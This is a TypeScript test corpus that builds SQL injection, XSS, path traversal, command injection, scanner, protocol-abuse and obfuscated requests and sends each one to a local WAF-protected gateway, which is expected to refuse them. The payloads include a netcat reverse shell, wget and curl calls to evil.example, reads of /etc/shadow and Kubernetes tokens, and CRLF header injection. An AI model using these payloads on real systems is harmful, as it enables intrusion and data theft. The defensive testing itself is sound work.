// The WAF's attack corpus: payloads of each class placed where the gateway's
// routes take input (a query parameter, a path segment, a JSON body, a form
// body, the Cookie and Referer headers), plus scanners by user agent,
// protocol violations and encoded or obfuscated variants. Written for this
// project; every request is one the prod directives (CRS paranoia level 1,
// inbound threshold 5) must refuse.
import http from "node:http";

export type AttackClass =
  | "sqli"
  | "xss"
  | "path_traversal"
  | "command_injection"
  | "scanner"
  | "protocol"
  | "obfuscated";

export interface Attack {
  id: string;
  class: AttackClass;
  /** Where the payload sits. */
  location: "query" | "path" | "json" | "form" | "cookie" | "referer" | "user-agent" | "header" | "request";
  method: "GET" | "POST";
  path: string;
  headers: Record<string, string>;
  body?: string;
}

const VIDEO = "0b9a1c52-3f65-4c4e-9a51-5f3f1f6c2a10";
const q = encodeURIComponent;

const SQLI = [
  "' OR '1'='1",
  "1 UNION SELECT username, password FROM users--",
  "1; DROP TABLE videos--",
  "' AND SLEEP(5)--",
  "admin'--",
  "1' AND extractvalue(1,concat(0x7e,version()))--",
  "' OR 1=1#",
  "') OR ('a'='a",
  "1' WAITFOR DELAY '0:0:5'--",
  "1 AND (SELECT COUNT(*) FROM pg_catalog.pg_tables) > 0",
  "'; INSERT INTO users (name) VALUES ('x')--",
  "1' ORDER BY 3--",
];

const XSS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(document.cookie)",
  "<svg/onload=alert(1)>",
  '"><script>alert(1)</script>',
  "<body onload=alert('x')>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe src=javascript:alert(1)></iframe>",
  "<details open ontoggle=alert(1)>",
  "<script src=https://evil.example/x.js></script>",
];

const TRAVERSAL = [
  "../../../../etc/passwd",
  "....//....//....//etc/passwd",
  "/etc/shadow",
  "..\\..\\..\\windows\\win.ini",
  "../../../../proc/self/environ",
  "file:///etc/passwd",
  "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
  "/etc/hosts",
];

const COMMANDS = [
  "; cat /etc/passwd",
  "| id",
  "`id`",
  "$(whoami)",
  "&& wget http://evil.example/x.sh",
  "; nc -e /bin/sh 10.0.0.1 4444",
  "|| curl http://evil.example/$(hostname)",
  "; /bin/bash -c 'rm -rf /tmp/x'",
];

const SCANNERS = [
  "sqlmap/1.7.2#stable (https://sqlmap.org)",
  "Mozilla/5.0 (compatible; Nikto/2.5.0)",
  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
  "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
  "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
  "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
  "gobuster/3.6",
  "Acunetix-Aspect",
  "Mozilla/5.0 zgrab/0.x",
];

/** Requests that are valid HTTP but break the protocol policy CRS enforces. */
const PROTOCOL: Omit<Attack, "id" | "class">[] = [
  { location: "path", method: "GET", path: "/v1/videos/backup.sql", headers: {} },
  { location: "path", method: "GET", path: "/v1/config.bak", headers: {} },
  { location: "path", method: "GET", path: "/.env.old", headers: {} },
  { location: "path", method: "GET", path: "/v1/users.db", headers: {} },
  { location: "header", method: "GET", path: "/v1/feed?limit=20", headers: { Proxy: "http://evil.example" } },
  {
    location: "header",
    method: "GET",
    path: "/v1/feed?limit=20",
    headers: { "Content-Encoding": "gzip, deflate, gzip" },
  },
  {
    location: "header",
    method: "POST",
    path: `/v1/videos/${VIDEO}/likes`,
    headers: { "Content-Type": "application/x-amf" },
    body: "\u0000\u0003",
  },
  {
    location: "header",
    method: "POST",
    path: `/v1/videos/${VIDEO}/likes`,
    headers: { "Content-Type": "application/json; charset=utf-7" },
    body: '{"userId":"+ADw-script+AD4-"}',
  },
  { location: "query", method: "GET", path: "/v1/feed?userId=abc%00.php&limit=20", headers: {} },
  { location: "query", method: "GET", path: `/v1/feed?userId=${q("x\r\nSet-Cookie: a=b")}`, headers: {} },
  {
    location: "query",
    method: "GET",
    path: `/v1/feed?userId=${q("x\r\nLocation: https://evil.example")}`,
    headers: {},
  },
  {
    location: "query",
    method: "GET",
    path: `/v1/feed?userId=${q("x\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1")}`,
    headers: {},
  },
  {
    location: "header",
    method: "GET",
    path: "/v1/feed?limit=20",
    headers: { "X-HTTP-Method-Override": "DELETE" },
  },
  {
    location: "header",
    method: "GET",
    path: "/v1/feed?limit=20",
    headers: { "Content-Range": "bytes 0-1/2" },
  },
  { location: "header", method: "GET", path: "/v1/feed?limit=20", headers: { "Lock-Token": "x" } },
];

/** The same attacks, written to slip past a naive filter. */
const OBFUSCATED = [
  "1 UN/**/ION SEL/**/ECT password FROM users",
  "1 uNiOn SeLeCt password FrOm users",
  "' oR '1'='1",
  "1'/**/OR/**/1=1--",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<img src=x oNeRrOr=alert`1`>",
  "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..%252f..%252f..%252fetc%252fpasswd",
  ";c\\at /et\\c/pa\\sswd",
  "$(printf 'whoami')",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
  "1;${IFS}cat${IFS}/etc/passwd",
  "javas\tcript:alert(1)",
  "<svg><script>alert&#40;1&#41;</script>",
  "1' || pg_sleep(5)--",
  "CHAR(39)||CHAR(79)||CHAR(82)",
  "'+(select+load_file('/etc/passwd'))+'",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
];

function placed(cls: AttackClass, payload: string, location: Attack["location"]): Omit<Attack, "id"> {
  const likes = `/v1/videos/${VIDEO}/likes`;
  switch (location) {
    case "query":
      return {
        class: cls,
        location,
        method: "GET",
        path: `/v1/feed?userId=${q(payload)}&limit=20`,
        headers: {},
      };
    case "path":
      return { class: cls, location, method: "GET", path: `/v1/videos/${q(payload)}`, headers: {} };
    case "json":
      return {
        class: cls,
        location,
        method: "POST",
        path: likes,
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ userId: payload }),
      };
    case "form":
      return {
        class: cls,
        location,
        method: "POST",
        path: likes,
        headers: { "Content-Type": "application/x-www-form-urlencoded" },
        body: `userId=${q(payload)}`,
      };
    case "cookie":
      return {
        class: cls,
        location,
        method: "GET",
        path: "/v1/feed?limit=20",
        headers: { Cookie: `session=${q(payload)}` },
      };
    case "referer":
      return {
        class: cls,
        location,
        method: "GET",
        path: "/v1/feed?limit=20",
        headers: { Referer: `https://app.example/?q=${q(payload)}` },
      };
    case "user-agent":
      return {
        class: cls,
        location,
        method: "GET",
        path: "/v1/feed?limit=20",
        headers: { "User-Agent": payload },
      };
    default:
      throw new Error(`no placement for ${location}`);
  }
}

function build(): Attack[] {
  const out: Omit<Attack, "id">[] = [];
  for (const p of SQLI)
    for (const l of ["query", "json", "form", "cookie"] as const) out.push(placed("sqli", p, l));
  for (const p of XSS)
    for (const l of ["query", "json", "form", "referer"] as const) out.push(placed("xss", p, l));
  for (const p of TRAVERSAL)
    for (const l of ["query", "path", "json"] as const) out.push(placed("path_traversal", p, l));
  for (const p of COMMANDS)
    for (const l of ["query", "json", "form"] as const) out.push(placed("command_injection", p, l));
  for (const ua of SCANNERS) out.push(placed("scanner", ua, "user-agent"));
  for (const r of PROTOCOL) out.push({ class: "protocol", ...r });
  for (const p of OBFUSCATED)
    for (const l of ["query", "json"] as const) out.push(placed("obfuscated", p, l));
  const seen = new Map<string, number>();
  return out.map((a) => {
    const key = `${a.class}-${a.location}`;
    const n = (seen.get(key) ?? 0) + 1;
    seen.set(key, n);
    return { id: `${key}-${n}`, ...a };
  });
}

export const ATTACKS: readonly Attack[] = build();

/** The public host the attacks name, and a browser's User-Agent (a missing one scores by itself). */
export const HOST = "app.golive.example";
const BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0";

/** Sends one attack to 127.0.0.1:port as written (raw path, headers, body); resolves its status. */
export function sendAttack(port: number, a: Attack): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: "127.0.0.1",
        port,
        method: a.method,
        path: a.path,
        headers: {
          Host: HOST,
          "User-Agent": BROWSER_UA,
          Accept: "application/json",
          "X-Request-Id": a.id,
          ...a.headers,
        },
      },
      (res) => {
        res.resume();
        res.on("end", () => resolve(res.statusCode ?? 0));
      },
    );
    req.on("error", reject);
    req.end(a.body);
  });
}
